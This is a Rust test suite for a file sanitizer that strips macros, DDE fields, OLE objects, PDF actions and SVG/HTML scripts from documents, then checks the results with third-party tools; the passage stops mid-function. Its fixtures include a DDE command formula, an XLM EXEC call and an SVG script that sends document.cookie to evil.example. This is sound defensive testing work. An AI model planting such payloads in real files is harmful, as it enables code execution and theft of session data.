//! Sanitization, judged by third-party tools: documents are made by
//! LibreOffice, given their active content by hand, sanitized, and then
//! checked by oletools (olevba, msodde) and opened again by LibreOffice,
//! whose PDF export must still hold the text. Every case has a clean twin.

use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::Command;

use mdcore::sanitize::{SanitizeError, SanitizeOptions, sanitize};

use crate::cdr::*;
use crate::util::*;

fn tmp() -> tempfile::TempDir {
    tempfile::tempdir().unwrap()
}

fn write(dir: &Path, name: &str, data: &[u8]) -> PathBuf {
    let p = dir.join(name);
    std::fs::write(&p, data).unwrap();
    p
}

#[test]
fn a_docm_with_an_autoopen_macro_a_dde_field_and_a_remote_template_comes_out_a_clean_docx() {
    let dir = tmp();
    let Some(docm) = docm_sample(dir.path()) else {
        return;
    };
    let docx = std::fs::read(dir.path().join("source.docx")).unwrap();
    let bad = write(dir.path(), "bad.docm", &docm);

    // The verifiers see what was added: the fixture is what it claims.
    let (out, _) = verifier("olevba", &["-a", bad.to_str().unwrap()]);
    assert!(
        out.contains("AutoOpen"),
        "olevba does not see the macro:\n{out}"
    );
    let (out, _) = verifier("msodde", &[bad.to_str().unwrap()]);
    assert!(
        out.contains("DDEAUTO"),
        "msodde does not see the field:\n{out}"
    );

    let s = sanitize(&docm, "bad.docm", &SanitizeOptions::new()).unwrap();
    assert_eq!(s.converted_to, "docx");
    let kinds: Vec<(&str, u32)> = s
        .details
        .iter()
        .map(|d| (d.object_name.as_str(), d.count))
        .collect();
    for want in [("macro", 1), ("DDE", 2), ("template", 1)] {
        assert!(kinds.contains(&want), "{want:?} not in {kinds:?}");
    }
    let clean = write(dir.path(), "clean.docx", &s.data);
    let (out, _) = verifier("olevba", &["-a", clean.to_str().unwrap()]);
    assert!(
        out.contains("No VBA or XLM macros found") && !out.contains("AutoOpen"),
        "olevba on the copy:\n{out}"
    );
    let (out, code) = verifier("mraptor", &[clean.to_str().unwrap()]);
    assert_eq!(code, 0, "mraptor on the copy:\n{out}");
    let (out, _) = verifier("msodde", &[clean.to_str().unwrap()]);
    assert!(
        !out.to_ascii_uppercase().contains("DDEAUTO"),
        "msodde on the copy:\n{out}"
    );
    let names: Vec<String> = parts(&s.data).into_iter().map(|(n, _)| n).collect();
    assert!(!names.iter().any(|n| n.contains("vbaProject")), "{names:?}");
    let all: String = parts(&s.data)
        .into_iter()
        .map(|(_, d)| String::from_utf8_lossy(&d).into_owned())
        .collect();
    for gone in [
        "macroEnabled",
        "vbaProject",
        "templates.example.net",
        "attachedTemplate",
    ] {
        assert!(!all.contains(gone), "{gone} is still in the copy");
    }

    // LibreOffice opens the copy and the text is intact.
    let text = text_of_document(dir.path(), "clean.docx", &s.data);
    assert!(text.contains("marker 4711"), "{text}");
    assert!(text.contains("field result"), "{text}");

    // The clean twin: nothing to remove, the text the same.
    let s = sanitize(&docx, "plain.docx", &SanitizeOptions::new()).unwrap();
    assert_eq!(s.converted_to, "docx");
    assert!(s.details.is_empty(), "{:?}", s.details);
    let text = text_of_document(dir.path(), "plain.docx", &s.data);
    assert!(text.contains("marker 4711"), "{text}");
}

#[test]
fn an_xlsm_loses_its_macro_sheet_vba_and_dde_formula_and_keeps_its_values() {
    let dir = tmp();
    let Some(xlsx) = libreoffice_document(dir.path(), "xlsx", "Calc MS Excel 2007 XML") else {
        return;
    };
    let mut p = parts(&xlsx);
    p.push(("xl/vbaProject.bin".into(), vba_bin(MACRO)));
    p.push((
        "xl/macrosheets/sheet1.xml".into(),
        b"<?xml version=\"1.0\"?><xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\" xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\"><f>EXEC(\"calc.exe\")</f></c></row></sheetData></xm:macrosheet>".to_vec(),
    ));
    edit(&mut p, "[Content_Types].xml", |s| {
        s.replace(
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        )
        .replace(
            "</Types>",
            "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/><Override PartName=\"/xl/macrosheets/sheet1.xml\" ContentType=\"application/vnd.ms-excel.macrosheet+xml\"/></Types>",
        )
    });
    edit(&mut p, "xl/_rels/workbook.xml.rels", |s| {
        s.replace(
            "</Relationships>",
            "<Relationship Id=\"rIdVba\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/><Relationship Id=\"rIdM\" Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" Target=\"macrosheets/sheet1.xml\"/></Relationships>",
        )
    });
    edit(&mut p, "xl/workbook.xml", |s| {
        s.replace(
            "</sheets>",
            &format!("<sheet xmlns:r=\"{REL}\" name=\"Macro1\" sheetId=\"9\" state=\"hidden\" r:id=\"rIdM\"/></sheets>"),
        )
    });
    edit(&mut p, "xl/worksheets/sheet1.xml", |s| {
        s.replace(
            "</sheetData>",
            "<row r=\"5\"><c r=\"A5\"><f>cmd|' /c calc'!A0</f><v>42</v></c></row></sheetData>",
        )
    });
    let xlsm = zip_parts(&p);
    let bad = write(dir.path(), "bad.xlsm", &xlsm);
    let (out, _) = verifier("olevba", &["-a", bad.to_str().unwrap()]);
    assert!(
        out.contains("AutoOpen"),
        "olevba does not see the macro:\n{out}"
    );

    let s = sanitize(&xlsm, "bad.xlsm", &SanitizeOptions::new()).unwrap();
    assert_eq!(s.converted_to, "xlsx");
    let kinds: Vec<&str> = s.details.iter().map(|d| d.object_name.as_str()).collect();
    for want in ["macro", "macro sheet", "DDE"] {
        assert!(kinds.contains(&want), "{want} not in {kinds:?}");
    }
    let clean = write(dir.path(), "clean.xlsx", &s.data);
    let (out, _) = verifier("olevba", &["-a", clean.to_str().unwrap()]);
    assert!(
        out.contains("No VBA or XLM macros found"),
        "olevba on the copy:\n{out}"
    );
    let all: String = parts(&s.data)
        .into_iter()
        .map(|(_, d)| String::from_utf8_lossy(&d).into_owned())
        .collect();
    for gone in ["macroEnabled", "vbaProject", "macrosheet", "EXEC(", "cmd|"] {
        assert!(!all.contains(gone), "{gone} is still in the copy");
    }
    assert!(
        all.contains("<v>42</v>"),
        "the DDE cell lost its cached value"
    );
    let text = text_of_document(dir.path(), "clean.xlsx", &s.data);
    assert!(text.contains("marker 4711"), "{text}");
}

#[test]
fn what_can_not_be_rebuilt_is_an_error_never_the_original() {
    // Not a package at all.
    assert!(matches!(
        sanitize(b"plain text", "a.txt", &SanitizeOptions::new()),
        Err(SanitizeError::Unsupported(_))
    ));
    // Two parts of one name (case differs): which one Office reads is
    // not ours to guess.
    let dup = zip_of(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("word/document.xml", b"<w:document/>"),
        ("Word/Document.xml", b"<w:document/>"),
    ]);
    assert!(matches!(
        sanitize(&dup, "a.docx", &SanitizeOptions::new()),
        Err(SanitizeError::Failed(m)) if m.contains("two parts")
    ));
    // Broken XML in a part that must be rewritten.
    let mut p = parts(&docx_document());
    edit(&mut p, "word/document.xml", |_| {
        "<w:document><w:body>".into()
    });
    assert!(matches!(
        sanitize(&zip_parts(&p), "a.docx", &SanitizeOptions::new()),
        Err(SanitizeError::Failed(m)) if m.contains("well-formed")
    ));
    // A damaged document of a sanitized type fails; the same bytes under
    // another name are a type without a sanitizer.
    let mut cut = docx_document();
    cut.truncate(cut.len() - 40);
    assert!(matches!(
        sanitize(&cut, "a.docm", &SanitizeOptions::new()),
        Err(SanitizeError::Failed(m)) if m.contains("not a readable zip")
    ));
    assert!(matches!(
        sanitize(&cut, "a.bin", &SanitizeOptions::new()),
        Err(SanitizeError::Unsupported(_))
    ));
    // No main part of a known type.
    let odd = zip_of(&[("[Content_Types].xml", b"<Types/>"), ("x.xml", b"<x/>")]);
    assert!(sanitize(&odd, "a.docx", &SanitizeOptions::new()).is_err());
    // The minimal clean document goes through unchanged in content.
    let s = sanitize(&docx_document(), "a.docx", &SanitizeOptions::new()).unwrap();
    assert!(s.details.is_empty());
    let back: Vec<(String, Vec<u8>)> = parts(&s.data);
    assert_eq!(back, parts(&docx_document()));
}

#[test]
fn an_rtf_with_an_ole_object_and_a_dde_field_keeps_its_text_and_loses_both() {
    let dir = tmp();
    let Some(bad) = rtf_sample(dir.path()) else {
        return;
    };
    let rtf = std::fs::read_to_string(dir.path().join("source.rtf")).unwrap();
    let bad_path = write(dir.path(), "bad.rtf", bad.as_bytes());
    let (out, _) = verifier("rtfobj", &[bad_path.to_str().unwrap()]);
    assert!(
        out.contains("Package"),
        "rtfobj does not see the object:\n{out}"
    );
    let (out, _) = verifier("msodde", &[bad_path.to_str().unwrap()]);
    assert!(
        out.contains("DDEAUTO"),
        "msodde does not see the field:\n{out}"
    );

    let s = sanitize(bad.as_bytes(), "bad.rtf", &SanitizeOptions::new()).unwrap();
    assert_eq!(s.converted_to, "rtf");
    let kinds: Vec<(&str, u32)> = s
        .details
        .iter()
        .map(|d| (d.object_name.as_str(), d.count))
        .collect();
    assert_eq!(kinds, vec![("OLE", 1), ("DDE", 1)]);
    let clean = write(dir.path(), "clean.rtf", &s.data);
    let (out, _) = verifier("rtfobj", &[clean.to_str().unwrap()]);
    assert!(!out.contains("Package"), "rtfobj on the copy:\n{out}");
    let (out, _) = verifier("msodde", &[clean.to_str().unwrap()]);
    assert!(
        !out.to_ascii_uppercase().contains("DDEAUTO"),
        "msodde on the copy:\n{out}"
    );
    let text = text_of_document(dir.path(), "clean.rtf", &s.data);
    assert!(text.contains("marker 4711"), "{text}");
    assert!(text.contains("field result"), "{text}");

    // The clean twin: nothing removed, the same bytes.
    let s = sanitize(rtf.as_bytes(), "plain.rtf", &SanitizeOptions::new()).unwrap();
    assert!(s.details.is_empty(), "{:?}", s.details);
    assert_eq!(s.data, rtf.trim_end().as_bytes());
}

#[test]
fn a_copy_sanitizes_again_with_nothing_left_to_remove() {
    // The fuzz target's invariant, on its seeds: what the sanitizer
    // writes, it reads.
    let docm = zip_of(&[
        (
            "[Content_Types].xml",
            br#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>"#,
        ),
        (
            "word/_rels/document.xml.rels",
            br#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://x/t.dotm" TargetMode="External"/></Relationships>"#,
        ),
        (
            "word/document.xml",
            br#"<w:document xmlns:w="w" xmlns:r="r"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO a b</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t>text</w:t></w:r></w:p><w:control r:id="rId2"/></w:body></w:document>"#,
        ),
        ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"),
    ]);
    let rtf: &[u8] = br"{\rtf1 Hi {\object\objemb{\*\objdata 0105}{\result {\pict 00}}}{\field{\*\fldinst DDEAUTO x}{\fldrslt y}}}";
    let doc = sanitize_doc();
    let zip = zip_of(&[("a.pdf", SANITIZE_PDF), ("b.docm", &docm)]);
    for (data, name) in [
        (docm.as_slice(), "a.bin"),
        (rtf, "a.docm"),
        (rtf, "a.rtf"),
        (SANITIZE_PDF, "a.pdf"),
        (&doc, "a.doc"),
        (&zip, "a.zip"),
    ] {
        let first = sanitize(data, name, &SanitizeOptions::new()).unwrap();
        assert!(!first.details.is_empty(), "{name}");
        let second = sanitize(&first.data, name, &SanitizeOptions::new()).unwrap();
        assert!(second.details.is_empty(), "{name}: {:?}", second.details);
        assert_eq!(second.converted_to, first.converted_to);
    }
}

#[test]
fn a_pdf_loses_its_scripts_actions_and_embedded_exe_and_keeps_its_text_and_links() {
    let dir = tmp();
    let Some(armed) = pdf_sample(dir.path()) else {
        return;
    };
    write(dir.path(), "bad.pdf", &armed);
    // The same document with its objects in object streams, and encrypted
    // with an empty user password (AES-256), made by qpdf.
    tool(
        dir.path(),
        "qpdf",
        &["--object-streams=generate", "bad.pdf", "bad-objstm.pdf"],
    )
    .unwrap();
    tool(
        dir.path(),
        "qpdf",
        &[
            "--encrypt",
            "",
            "owner",
            "256",
            "--",
            "bad.pdf",
            "bad-aes.pdf",
        ],
    )
    .unwrap();
    let before = pdfid_counts(&dir.path().join("bad.pdf"));
    for (key, n) in &before {
        assert!(*n > 0, "pdfid sees no {key} in the armed PDF: {before:?}");
    }

    for name in ["bad.pdf", "bad-objstm.pdf", "bad-aes.pdf"] {
        let data = std::fs::read(dir.path().join(name)).unwrap();
        let s = sanitize(&data, name, &SanitizeOptions::new()).unwrap();
        assert_eq!(s.converted_to, "pdf");
        let kinds: Vec<&str> = s.details.iter().map(|d| d.object_name.as_str()).collect();
        for k in [
            "JavaScript",
            "OpenAction",
            "Additional actions",
            "Embedded file",
            "SubmitForm action",
        ] {
            assert!(
                kinds.contains(&k),
                "{name}: {k} not reported: {:?}",
                s.details
            );
        }
        let clean = format!("clean-{name}");
        write(dir.path(), &clean, &s.data);
        let after = pdfid_counts(&dir.path().join(&clean));
        assert!(
            after.iter().all(|(_, n)| *n == 0),
            "{name}: pdfid on the copy: {after:?}"
        );
        qpdf_check(dir.path(), &clean);
        let text = pdftotext(dir.path(), &clean);
        assert!(text.contains("marker 4711"), "{name}: {text}");
        // The web link stays; the submitting one is gone.
        let (out, code) = verifier(
            "python",
            &[
                "-c",
                "import sys, pikepdf\np = pikepdf.open(sys.argv[1])\nfor a in p.pages[0].get('/Annots', []):\n    print(a.get('/A', {}).get('/S'), a.get('/A', {}).get('/URI'))\nprint('files', len(p.attachments))",
                dir.path().join(&clean).to_str().unwrap(),
            ],
        );
        assert_eq!(code, 0, "{out}");
        assert!(
            out.contains("/URI https://example.com/report"),
            "{name}: {out}"
        );
        assert!(!out.contains("SubmitForm"), "{name}: {out}");
        assert!(out.contains("files 0"), "{name}: {out}");
    }

    // Kept on request: the embedded file stays, the scripts still go.
    let data = std::fs::read(dir.path().join("bad.pdf")).unwrap();
    let s = sanitize(
        &data,
        "bad.pdf",
        &SanitizeOptions::new().remove_embedded_files(false),
    )
    .unwrap();
    write(dir.path(), "kept.pdf", &s.data);
    let after = pdfid_counts(&dir.path().join("kept.pdf"));
    assert_eq!(
        after.last().unwrap(),
        &("/EmbeddedFile".to_string(), 1),
        "{after:?}"
    );
    assert!(after.iter().take(5).all(|(_, n)| *n == 0), "{after:?}");
    qpdf_check(dir.path(), "kept.pdf");

    // The clean twin: nothing reported, still valid, same text.
    let data = std::fs::read(dir.path().join("source.pdf")).unwrap();
    let s = sanitize(&data, "source.pdf", &SanitizeOptions::new()).unwrap();
    assert!(s.details.is_empty(), "{:?}", s.details);
    write(dir.path(), "twin.pdf", &s.data);
    qpdf_check(dir.path(), "twin.pdf");
    assert!(pdftotext(dir.path(), "twin.pdf").contains("marker 4711"));
    // And the copy sanitizes again to itself.
    let again = sanitize(&s.data, "twin.pdf", &SanitizeOptions::new()).unwrap();
    assert!(again.data == s.data, "a second pass changed the copy");
}

#[test]
fn a_pdf_that_can_not_be_rebuilt_is_an_error() {
    for (data, why) in [
        (&b"%PDF-1.7\nnothing here\n%%EOF\n"[..], "no PDF objects"),
        (
            &b"%PDF-1.7\n1 0 obj\n<</Type/Page>>\nendobj\ntrailer\n<</Root 9 0 R>>\n%%EOF\n"[..],
            "catalog",
        ),
    ] {
        match sanitize(data, "x.pdf", &SanitizeOptions::new()) {
            Err(SanitizeError::Failed(e)) => assert!(e.contains(why), "{e}"),
            other => panic!("{other:?}"),
        }
    }
}

/// A LibreOffice compound file given a VBA project in `storage` (`Macros`
/// for Word, `_VBA_PROJECT_CUR` for Excel), written by the cfb crate.
fn with_vba(ole: &[u8], storage: &str) -> Vec<u8> {
    use std::io::Write as _;
    let mut cf = cfb::CompoundFile::open(std::io::Cursor::new(ole.to_vec())).unwrap();
    let project = vba_project(&format!("{storage}/VBA"), &[("Module1", MACRO)]);
    cf.create_storage_all(format!("/{storage}/VBA")).unwrap();
    for (path, data) in &project {
        cf.create_stream(format!("/{path}"))
            .unwrap()
            .write_all(data)
            .unwrap();
    }
    cf.create_stream(format!("/{storage}/PROJECT"))
        .unwrap()
        .write_all(b"ID=\"{00000000-0000-0000-0000-000000000000}\"\r\nModule=Module1\r\nName=\"Project\"\r\n")
        .unwrap();
    cf.flush().unwrap();
    cf.into_inner().into_inner()
}

#[test]
fn word_and_excel_97_files_lose_their_vba_projects_and_keep_their_text() {
    let dir = tmp();
    std::fs::write(dir.path().join("source.txt"), format!("{TEXT}\n")).unwrap();
    std::fs::write(dir.path().join("sheet.csv"), format!("\"{TEXT}\",7\n")).unwrap();
    if soffice(
        dir.path(),
        &["--convert-to", "doc:MS Word 97", "source.txt"],
    )
    .is_none()
    {
        return;
    }
    soffice(
        dir.path(),
        &["--convert-to", "xls:MS Excel 97", "sheet.csv"],
    )
    .unwrap();
    let doc = std::fs::read(dir.path().join("source.doc")).unwrap();
    let xls = std::fs::read(dir.path().join("sheet.xls")).unwrap();
    for (name, clean, storage) in [
        ("bad.doc", &doc, "Macros"),
        ("bad.xls", &xls, "_VBA_PROJECT_CUR"),
    ] {
        let bad = with_vba(clean, storage);
        let bad_path = write(dir.path(), name, &bad);
        let (out, _) = verifier("olevba", &["-a", bad_path.to_str().unwrap()]);
        assert!(
            out.contains("AutoOpen"),
            "olevba does not see the macro in {name}:\n{out}"
        );

        let s = sanitize(&bad, name, &SanitizeOptions::new()).unwrap();
        assert_eq!(s.converted_to, &name[4..]);
        let kinds: Vec<(&str, u32)> = s
            .details
            .iter()
            .map(|d| (d.object_name.as_str(), d.count))
            .collect();
        assert_eq!(kinds, [("macro", 1)], "{name}");
        let copy = format!("clean-{name}");
        let clean_path = write(dir.path(), &copy, &s.data);
        let (out, _) = verifier("olevba", &[clean_path.to_str().unwrap()]);
        assert!(
            out.contains("No VBA or XLM macros found"),
            "olevba on the copy of {name}:\n{out}"
        );
        let (_, code) = verifier("mraptor", &[clean_path.to_str().unwrap()]);
        assert_eq!(code, 0, "mraptor on the copy of {name}");
        let text = text_of_document(dir.path(), &copy, &s.data);
        assert!(text.contains("marker 4711"), "{name}: {text}");

        // The clean twin: nothing removed.
        let twin = sanitize(clean, name, &SanitizeOptions::new()).unwrap();
        assert!(twin.details.is_empty(), "{name}: {:?}", twin.details);
    }

    // A .doc that is not a compound file fails; it is not passed as text.
    assert!(matches!(
        sanitize(b"just some text", "letter.doc", &SanitizeOptions::new()),
        Err(SanitizeError::Failed(_))
    ));
    // One that is HTML (which Word opens as such) is sanitized as HTML.
    let html = sanitize(
        b"<html><body onload=\"x()\">hi</body></html>",
        "letter.doc",
        &SanitizeOptions::new(),
    )
    .unwrap();
    assert_eq!(html.converted_to, "html");
}

/// PNG and JPEG renderings of a LibreOffice page by pdftoppm, given a
/// comment and an archive after their end; an animated GIF.
#[test]
fn images_are_encoded_again_without_metadata_or_trailing_bytes() {
    let dir = tmp();
    std::fs::write(dir.path().join("source.txt"), format!("{TEXT}\n")).unwrap();
    if soffice(dir.path(), &["--convert-to", "pdf", "source.txt"]).is_none() {
        return;
    }
    tool(
        dir.path(),
        "pdftoppm",
        &["-r", "20", "-png", "-singlefile", "source.pdf", "page"],
    )
    .unwrap();
    tool(
        dir.path(),
        "pdftoppm",
        &["-r", "20", "-jpeg", "-singlefile", "source.pdf", "page"],
    )
    .unwrap();
    let png = std::fs::read(dir.path().join("page.png")).unwrap();
    let jpg = std::fs::read(dir.path().join("page.jpg")).unwrap();
    let trailer = zip_of(&[("eicar.com", EICAR)]);

    // PNG: a tEXt chunk after IHDR, a zip after IEND.
    let mut text_chunk = Vec::new();
    let body = b"Comment\0mdscan-secret";
    text_chunk.extend_from_slice(&(body.len() as u32).to_be_bytes());
    text_chunk.extend_from_slice(b"tEXt");
    text_chunk.extend_from_slice(body);
    let mut crc = crc32fast::Hasher::new();
    crc.update(b"tEXt");
    crc.update(body);
    text_chunk.extend_from_slice(&crc.finalize().to_be_bytes());
    let mut bad_png = png[..33].to_vec();
    bad_png.extend_from_slice(&text_chunk);
    bad_png.extend_from_slice(&png[33..]);
    bad_png.extend_from_slice(&trailer);
    // JPEG: a comment segment after SOI, a zip after EOI.
    let mut bad_jpg = jpg[..2].to_vec();
    bad_jpg.extend_from_slice(&[0xff, 0xfe, 0, 15]);
    bad_jpg.extend_from_slice(b"mdscan-secret");
    bad_jpg.extend_from_slice(&jpg[2..]);
    bad_jpg.extend_from_slice(&trailer);

    for (name, bad, clean, end) in [
        ("page.png", &bad_png, &png, &b"IEND\xaeB`\x82"[..]),
        ("page.jpg", &bad_jpg, &jpg, &b"\xff\xd9"[..]),
    ] {
        let s = sanitize(bad, name, &SanitizeOptions::new()).unwrap();
        assert_eq!(s.converted_to, &name[5..], "{name}");
        assert!(
            !contains(&s.data, b"mdscan-secret"),
            "{name}: the comment stayed"
        );
        assert!(
            !contains(&s.data, b"eicar.com"),
            "{name}: the trailing zip stayed"
        );
        assert!(
            s.data.ends_with(end),
            "{name}: the copy does not end with the image"
        );
        let before = image::load_from_memory(clean).unwrap();
        let after = image::load_from_memory(&s.data).unwrap();
        assert_eq!(
            (after.width(), after.height()),
            (before.width(), before.height())
        );
        if name.ends_with("png") {
            assert_eq!(after.to_rgba8(), before.to_rgba8(), "PNG pixels changed");
        }
    }

    // An animated GIF keeps its frames.
    let mut gif = Vec::new();
    {
        let mut enc = image::codecs::gif::GifEncoder::new(&mut gif);
        let frames = (0..3u8).map(|i| {
            image::Frame::new(image::RgbaImage::from_pixel(
                8,
                8,
                image::Rgba([i * 80, 0, 0, 255]),
            ))
        });
        enc.encode_frames(frames).unwrap();
    }
    gif.extend_from_slice(&trailer);
    let s = sanitize(&gif, "anim.gif", &SanitizeOptions::new()).unwrap();
    assert!(!contains(&s.data, b"eicar.com"));
    use image::AnimationDecoder as _;
    let frames = image::codecs::gif::GifDecoder::new(std::io::Cursor::new(&s.data))
        .unwrap()
        .into_frames()
        .collect_frames()
        .unwrap();
    assert_eq!(frames.len(), 3);

    // Named as an image, not one: it fails.
    assert!(matches!(
        sanitize(b"MZ not a picture", "photo.png", &SanitizeOptions::new()),
        Err(SanitizeError::Failed(_))
    ));
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w == needle)
}

/// SVG by hand (every way an SVG runs or fetches something), judged by
/// Python's XML parser: well-formed, the drawing and its text kept, none of
/// the active parts left.
#[test]
fn an_svg_keeps_its_drawing_and_loses_what_runs_or_fetches() {
    let svg = br##"<?xml version="1.0" encoding="UTF-8"?>
<?xml-stylesheet type="text/css" href="http://evil.example/s.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100" onload="alert(1)">
  <defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient></defs>
  <script type="text/javascript"><![CDATA[ fetch('http://evil.example/' + document.cookie) ]]></script>
  <rect width="200" height="100" fill="url(#g)" onclick="alert(2)"/>
  <a xlink:href="javascript:alert(3)"><text x="10" y="50">Quarterly figures, marker 4711</text></a>
  <image href="http://evil.example/track.png" width="1" height="1"/>
  <image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>
  <foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://evil.example/"/></foreignObject>
  <set attributeName="xlink:href" to="javascript:alert(4)"/>
  <style>@import url(http://evil.example/x.css);</style>
  <use xlink:href="#g"/>
</svg>
"##;
    let s = sanitize(svg, "drawing.svg", &SanitizeOptions::new()).unwrap();
    assert_eq!(s.converted_to, "svg");
    let out = String::from_utf8(s.data.clone()).unwrap();
    for gone in [
        "evil.example",
        "javascript",
        "onload",
        "onclick",
        "<script",
        "iframe",
        "<set",
    ] {
        assert!(!out.contains(gone), "{gone} is still in:\n{out}");
    }
    let dir = tmp();
    let path = write(dir.path(), "clean.svg", &s.data);
    let check = Command::new("python3")
        .args([
            "-c",
            "import sys, xml.etree.ElementTree as E\nroot = E.parse(sys.argv[1]).getroot()\nprint(root.tag)\nprint(''.join(root.itertext()))\nprint(len(root.findall('.//{http://www.w3.org/2000/svg}rect')), len(root.findall('.//{http://www.w3.org/2000/svg}image')))",
            path.to_str().unwrap(),
        ])
        .output()
        .unwrap();
    let printed = String::from_utf8_lossy(&check.stdout);
    assert!(
        check.status.success(),
        "{}",
        String::from_utf8_lossy(&check.stderr)
    );
    assert!(
        printed.starts_with("{http://www.w3.org/2000/svg}svg"),
        "{printed}"
    );
    assert!(printed.contains("marker 4711"), "{printed}");
    assert!(printed.trim_end().ends_with("1 2"), "{printed}");
    // A twin with nothing active is reported clean.
    let again = sanitize(&s.data, "drawing.svg", &SanitizeOptions::new()).unwrap();
    assert!(again.details.is_empty(), "{:?}", again.details);
}

/// LibreOffice's HTML export given scripts, handlers, frames and remote
/// resources; judged by Python's HTML parser and Chromium's DOM dump.
#[test]
fn an_html_page_keeps_its_text_and_links_and_loses_what_runs_or_fetches() {
    let dir = tmp();
    std::fs::write(dir.path().join("source.txt"), format!("{TEXT}\n")).unwrap();
    if soffice(dir.path(), &["--convert-to", "html", "source.txt"]).is_none() {
        return;
    }
    let page = std::fs::read_to_string(dir.path().join("source.html")).unwrap();
    let armed = page
        .replace(
            "</head>",
            "<script src=\"http://evil.example/a.js\"></script><base href=\"http://evil.example/\"></head>",
        )
        .replace("<body", "<body onload=\"document.title='ran'\"")
        .replace(
            "</body>",
            "<a href=\"https://example.org/report\">report</a><a href=\" jav&#x61;script:document.title='ran'\">x</a>\
             <img src=\"http://evil.example/t.png\"><iframe src=\"http://evil.example/\"></iframe>\
             <svg><script>document.title='ran'</script></svg><script>document.title='ran'</script></body>",
        );
    let s = sanitize(armed.as_bytes(), "page.html", &SanitizeOptions::new()).unwrap();
    assert_eq!(s.converted_to, "html");
    let kinds: Vec<&str> = s.details.iter().map(|d| d.object_name.as_str()).collect();
    for k in [
        "script",
        "base",
        "event handler",
        "script URL",
        "external reference",
        "iframe",
    ] {
        assert!(kinds.contains(&k), "{k} not reported: {:?}", s.details);
    }
    let path = write(dir.path(), "clean.html", &s.data);
    let check = Command::new("python3")
        .args([
            "-c",
            "import sys\nfrom html.parser import HTMLParser\nclass P(HTMLParser):\n    tags = []; attrs = []; text = ''\n    def handle_starttag(self, t, a):\n        self.tags.append(t); self.attrs += [(k, v or '') for k, v in a]\n    def handle_data(self, d):\n        self.text += d\np = P(); p.feed(open(sys.argv[1]).read())\nprint('script' in p.tags, 'iframe' in p.tags, any(k.startswith('on') for k, v in p.attrs), any('evil' in v for k, v in p.attrs))\nprint('marker 4711' in p.text, any(v == 'https://example.org/report' for k, v in p.attrs))",
            path.to_str().unwrap(),
        ])
        .output()
        .unwrap();
    let printed = String::from_utf8_lossy(&check.stdout);
    assert!(
        check.status.success(),
        "{}",
        String::from_utf8_lossy(&check.stderr)
    );
    assert_eq!(printed, "False False False False\nTrue True\n");
    // Chromium runs the copy: nothing sets the title.
    if std::path::Path::new("/usr/bin/chromium").exists() {
        let out = Command::new("chromium")
            .args([
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                &format!("--user-data-dir={}", dir.path().join("chrome").display()),
                "--dump-dom",
                &format!("file://{}", path.display()),
            ])
            .output()
            .unwrap();
        let dom = String::from_utf8_lossy(&out.stdout);
        assert!(dom.contains("marker 4711"), "{dom}");
        assert!(!dom.contains("<title>ran</title>"), "a script ran:\n{dom}");
    }
}

/// A docm whose VBA project (AutoOpen, `Shell`) olevba and mraptor see.
fn small_docm() -> Vec<u8> {
    zip_of(&[
        (
            "[Content_Types].xml",
            br#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>"#,
        ),
        (
            "_rels/.rels",
            br#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#,
        ),
        (
            "word/_rels/document.xml.rels",
            br#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>"#,
        ),
        (
            "word/document.xml",
            br#"<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>archived text</w:t></w:r></w:p></w:body></w:document>"#,
        ),
        ("word/vbaProject.bin", &vba_bin(MACRO)),
    ])
}

/// Extracts `archive` (in `dir`) with the real tool for its type into
/// `dir/out`, and returns the files there (relative paths, sorted).
fn unpack(dir: &Path, archive: &str) -> Vec<String> {
    let out = dir.join("out");
    let _ = std::fs::remove_dir_all(&out);
    std::fs::create_dir_all(&out).unwrap();
    let a = dir.join(archive);
    let a = a.to_str().unwrap();
    let ok = if archive.ends_with(".tar") {
        tool(&out, "tar", &["-xf", a])
    } else if archive.ends_with(".tgz") || archive.ends_with(".tar.gz") {
        tool(&out, "tar", &["-xzf", a])
    } else if archive.ends_with(".tar.xz") {
        tool(&out, "tar", &["-xJf", a])
    } else if archive.ends_with(".zip") {
